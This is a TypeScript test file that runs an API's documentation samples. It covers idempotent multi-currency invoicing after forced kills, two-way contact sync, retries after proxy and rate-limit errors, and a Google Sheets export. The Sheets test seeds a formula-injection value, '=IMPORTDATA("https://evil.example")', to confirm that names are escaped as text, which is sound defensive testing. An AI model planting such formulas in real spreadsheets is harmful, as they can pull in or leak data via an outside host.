/** The programs of the guides as integrators run them: killed after every page, and with several currencies. */
import { readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { afterEach, beforeEach, expect, onTestFinished, test } from 'vitest';
import { importInto } from '../import/importing.ts';
import { proposal } from '../records.ts';
import { useWorld } from '../world.ts';
import { listen } from '../ports.ts';
import { readPage, snippetsOf } from './reading.ts';
import { newReader } from './running.ts';
import type { Reader } from './running.ts';

const world = useWorld();
let reader: Reader;
beforeEach(async () => {
  reader = await newReader(world);
});
afterEach(() => reader.leave());

const programOf = async (path: string, name: string): Promise<string> => {
  const found = snippetsOf(await readPage(world, path)).find(({ label }) => label === name);
  if (!found) throw new Error(`${path} has no program ${name}.`);
  return found.text;
};

test('an invoicing program that is killed after each page invoices every proposal once, exactly in every currency', async () => {
  const times = {
    status: 'accepted',
    sentAt: '2026-03-01T10:00:00.000Z',
    acceptedAt: '2026-03-03T23:30:00.000Z',
  } as const;
  const customer = (await reader.tenant.call('POST', '/v1/customers', { name: 'Hungry Coyote' })).body.id;
  const lines = [
    { quantity: '3', unitPrice: '0.335', taxRate: '8.25' },
    { quantity: '1', unitPrice: '2.5', taxRate: '8.25' },
  ];
  // With two decimals, none, and three.
  const currencies = ['USD', 'EUR', 'GBP', 'CHF', 'JPY', 'KRW', 'KWD', 'BHD', 'TND', 'JPY', 'KWD'];
  for (const currency of currencies) await proposal(reader.tenant, { customer, currency, lines, ...times });
  await proposal(reader.tenant, { customer, currency: 'USD', status: 'sent', sentAt: times.sentAt });

  const text = (await programOf('/docs/invoices', 'invoices.mts')).replace(
    'sync({ include',
    'sync({ limit: 2, include',
  );
  const killed = text.replace('  await rename(`${file}.new`, file);', "$&\n  process.kill(process.pid, 'SIGKILL');");
  expect(killed).not.toBe(text);
  const file = join(reader.folder, 'invoices.json');
  // Thirteen proposals on pages of two.
  for (let kills = 0; kills < 6; kills += 1)
    await expect(reader.program('killed.mts', killed)).rejects.toThrow('killed.mts');
  expect(Object.keys(JSON.parse(await readFile(file, 'utf8')).invoices).length).toBeGreaterThan(9);

  const sums = await reader.program('invoices.mts', text);
  expect(await reader.program('invoices.mts', text)).toBe(sums);
  const { invoices, toReview } = JSON.parse(await readFile(file, 'utf8'));
  expect([Object.keys(invoices).length, toReview]).toEqual([12, []]);
  // 3 × 0.335 and 2.5, each with 8.25 % and rounded to the currency: 1.09 + 2.71, 1 + 3, and 1.088 + 2.706.
  const expected = { USD: 380, EUR: 380, GBP: 380, CHF: 380, JPY: 2 * 4, KRW: 4, KWD: 2 * 3794, BHD: 3794, TND: 3794 };
  for (const [currency, sum] of Object.entries(expected))
    expect(sums).toContain(`${currency} ${currency === 'USD' ? sum + 10_000 : sum}\n`);
  // 23:30 in UTC is the next day in Berlin.
  expect(Object.values(invoices)).toContainEqual(expect.objectContaining({ date: '2026-03-04' }));
});

test('an invoicing program reports an invoiced proposal whose lines or currency change, once', async () => {
  await reader.tenant.call('POST', '/v1/customers', { name: 'Hungry Coyote', externalId: 'C-1' });
  const times = { sentAt: '2026-03-01T10:00:00Z', acceptedAt: '2026-03-03T23:30:00Z' };
  const text = await programOf('/docs/invoices', 'invoices.mts');
  const accept = async (name: string, currency = 'USD') => {
    const row = { externalId: 'P-1', number: 'P-1', title: 'Spring', status: 'accepted', currency, ...times };
    const lineItems = [{ type: 'product', name, quantity: '2', unitPrice: '18.00' }];
    await importInto(world, reader.tenant).rows('proposals', { ...row, customerExternalId: 'C-1', lineItems });
    await reader.program('invoices.mts', text);
    return JSON.parse(await readFile(join(reader.folder, 'invoices.json'), 'utf8')).toReview;
  };
  expect(await accept('Chai')).toEqual([]);
  expect(await accept('Chang')).toEqual(['P-1']);
  expect(await accept('Chai', 'EUR')).toEqual(['P-1']);
});

test('a two-way sync keeps both sides in sync: new, edited here, edited there, edited on both sides, given another externalId, replaced at the old one, erased', async () => {
  const { tenant } = reader;
  const text = await programOf('/docs/two-way-sync', 'two-way-sync.mts');
  const file = join(reader.folder, 'contacts.json');
  const sync = () => reader.program('two-way-sync.mts', text);
  const contacts = async () => JSON.parse(await readFile(file, 'utf8')).contacts;
  const edit = async (change: (contacts: any) => void) => {
    const copy = JSON.parse(await readFile(file, 'utf8'));
    change(copy.contacts);
    await writeFile(file, JSON.stringify(copy));
  };
  expect(await sync()).toBe('1 contacts\n');

  await edit((all) => (all['crm-1'] = { name: 'Ann', email: null, changed: true }));
  expect(await sync()).toBe('2 contacts\n');
  const [made] = (await tenant.call('GET', '/v1/customers?externalId=crm-1')).body.data;
  expect((await contacts())['crm-1']).toEqual({
    id: made.id,
    etag: made.etag,
    name: 'Ann',
    email: null,
    changed: false,
  });

  const path = `/v1/customers/${made.id}`;
  await tenant.call('PATCH', path, { email: 'ann@example.com' });
  await sync();
  expect((await contacts())['crm-1']).toMatchObject({ email: 'ann@example.com', changed: false });

  await tenant.call('PATCH', path, { name: 'Anna', notes: 'kept' });
  await edit((all) => Object.assign(all['crm-1'], { name: 'Annie', changed: true }));
  await sync();
  expect((await tenant.call('GET', path)).body).toMatchObject({ name: 'Annie', notes: 'kept' });
  expect((await contacts())['crm-1']).toMatchObject({ name: 'Annie', changed: false });

  await tenant.call('PATCH', path, { externalId: 'crm-2' });
  expect(await sync()).toBe('2 contacts\n');
  await edit((all) => Object.assign(all['crm-1'], { name: 'Anni', changed: true }));
  expect(await sync()).toBe('2 contacts\n');
  expect((await tenant.call('GET', path)).body).toMatchObject({ name: 'Anni', externalId: 'crm-2' });
  await tenant.call('POST', '/v1/customers', { externalId: 'crm-1', name: 'Berta' });
  expect(await sync()).toBe('3 contacts\n');
  expect((await contacts())['crm-1']).toMatchObject({ id: made.id, name: 'Anni' });

  await reader.shell(`npx proposal-api customers erase ${made.id} --organization your-organization --yes`);
  await edit((all) => Object.assign(all['crm-1'], { name: 'Anne', changed: true }));
  expect(await sync()).toBe('2 contacts\n');
  expect(JSON.stringify(await contacts())).not.toContain('Ann');
});

/** The URL of a server that sends these responses, in order. */
async function serving(responses: { status: number; body: string }[]): Promise<string> {
  const server = createServer((_, response) => {
    const { status = 500, body } = responses.shift() ?? {};
    response.writeHead(status, { 'retry-after': '0' }).end(body);
  });
  onTestFinished(() => void server.close());
  return `http://127.0.0.1:${await listen(server)}`;
}

const page = { data: [], pagination: { nextUrl: null }, syncedThrough: '2026-03-01T09:30:00.123Z' };

test('the sync script retries a response that a proxy sent', async () => {
  const url = await serving([
    { status: 502, body: '<html>Bad gateway</html>' },
    { status: 200, body: JSON.stringify(page) },
  ]);
  const text = (await programOf('/docs/pagination-and-sync', 'sync.mjs')).replaceAll(world.url, url);
  expect(await reader.program('sync.mjs', text)).toBe(`0 changes, 0 records, through ${page.syncedThrough}\n`);
});

test.each(['/docs/pagination-and-sync', '/docs/retries-and-idempotency'])(
  'curl prints the response, without the errors that it retried: %s',
  async (path) => {
    const url = await serving([
      { status: 429, body: '{"code":"rate_limited"}' },
      { status: 200, body: JSON.stringify(page) },
    ]);
    const found = snippetsOf(await readPage(world, path)).find(({ text }) => text.includes('--retry'));
    const { output } = await reader.shell((found?.text ?? '').replaceAll(world.url, url));
    expect(output.trim()).toBe(JSON.stringify(page));
  },
);

test('the script for Google Sheets waits after a 429, and writes customers as text, so that no name becomes a formula', async () => {
  const { tenant } = reader;
  for (const name of ['=IMPORTDATA("https://evil.example")', '+1', 'Ann'])
    await tenant.call('POST', '/v1/customers', { name });
  const found = snippetsOf(await readPage(world, '/docs/automation')).find(({ text }) => text.includes('setValues'));
  const headers = { Authorization: `Bearer ${tenant.key}` };
  const url = `${world.url}/v1/customers?limit=100`;
  const body = await (await fetch(url, { headers })).text();
  let written: (string | null)[][] = [];
  const range = { setValues: (rows: (string | null)[][]) => (written = rows) };
  const answers = [429, 200];
  const pauses: number[] = [];
  const google = {
    Utilities: { sleep: (ms: number) => pauses.push(ms) },
    PropertiesService: { getScriptProperties: () => ({ getProperty: () => tenant.key }) },
    UrlFetchApp: {
      fetch: (...request: unknown[]) => {
        expect(request).toEqual([url, { headers, muteHttpExceptions: true }]);
        const status = answers.shift();
        return { getResponseCode: () => status, getContentText: () => (status === 200 ? body : '{}') };
      },
    },
    SpreadsheetApp: { getActiveSheet: () => ({ clear: () => ({ getRange: () => range }) }) },
  };
  runInNewContext(`${found?.text}; fillSheet();`, google);
  expect(pauses).toEqual([60_000]);
  // A spreadsheet hides the apostrophe.
  expect(written.map((row) => [...row])).toEqual(
    expect.arrayContaining([
      ["'Ann", null, "'active"],
      ["'+1", null, "'active"],
      [`'=IMPORTDATA("https://evil.example")`, null, "'active"],
    ]),
  );
});
